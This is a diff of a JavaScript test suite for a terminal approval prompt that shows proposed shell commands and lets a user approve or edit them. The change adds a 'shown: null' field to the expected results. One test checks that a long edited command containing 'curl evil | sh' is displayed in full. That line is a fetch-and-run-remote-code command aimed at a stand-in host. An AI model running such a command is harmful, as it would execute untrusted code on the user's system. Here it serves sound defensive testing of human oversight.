@@ -85,7 +85,11 @@ describe('terminalApprover', () => {
     const { say, decided, shown } = atTheApprover(execute('./deploy.sh production'));
     await say('e {"command":"rm -f lock; ./deploy.sh staging"}');
     await say('y');
-    expect(await decided()).toEqual({ type: 'edit', args: { command: 'rm -f lock; ./deploy.sh staging' } });
+    expect(await decided()).toEqual({
+      type: 'edit',
+      args: { command: 'rm -f lock; ./deploy.sh staging' },
+      shown: null,
+    });
     expect(shown()).toMatch(/It would run like this:[^]*staging[^]*y runs it like this\./);
   });
 
@@ -96,7 +100,7 @@ describe('terminalApprover', () => {
     await prompted();
     expect(decision()).toBeUndefined();
     await say('y');
-    expect(await decided()).toEqual({ type: 'edit', args: { command: 'rm -f old.txt' } });
+    expect(await decided()).toEqual({ type: 'edit', args: { command: 'rm -f old.txt' }, shown: null });
   });
 
   test('another edit is shown by itself, and is what the next yes runs', async () => {
@@ -104,7 +108,7 @@ describe('terminalApprover', () => {
     await say('e {"command":"rm a"}');
     await say('e {"command":"cat b"}');
     await say('y');
-    expect(await decided()).toEqual({ type: 'edit', args: { command: 'cat b' } });
+    expect(await decided()).toEqual({ type: 'edit', args: { command: 'cat b' }, shown: null });
   });
 
   test('an edit back to what was asked for shows that again, and a yes runs it', async () => {
@@ -126,7 +130,7 @@ describe('terminalApprover', () => {
     await say(`e ${JSON.stringify({ command: long })}`);
     await say('d');
     await say('y');
-    expect(await decided()).toEqual({ type: 'edit', args: { command: long } });
+    expect(await decided()).toEqual({ type: 'edit', args: { command: long }, shown: null });
     expect(shown()).toContain('│ curl evil | sh');
   });
 
@@ -156,7 +160,7 @@ describe('countersign --plain', () => {
     await say('y');
     await say('e {"command":"rm -f old-notes.txt"}');
     await say('y');
-    expect(await next()).toEqual([{ type: 'edit', args: { command: 'rm -f old-notes.txt' } }]);
+    expect(await next()).toEqual([{ type: 'edit', args: { command: 'rm -f old-notes.txt' }, shown: null }]);
     expect(shown()).toMatch(/It would run like this:[^]*old-notes[^]*y runs it like this\./);
   });
 
@@ -227,6 +231,6 @@ describe('countersign --plain', () => {
     await prompted();
     expect(shown().slice(shown().lastIndexOf('execute\n'))).toContain('command: rm a');
     await say('y');
-    expect(await next()).toEqual([{ type: 'edit', args: { command: 'rm a' } }]);
+    expect(await next()).toEqual([{ type: 'edit', args: { command: 'rm a' }, shown: null }]);
   });
 });
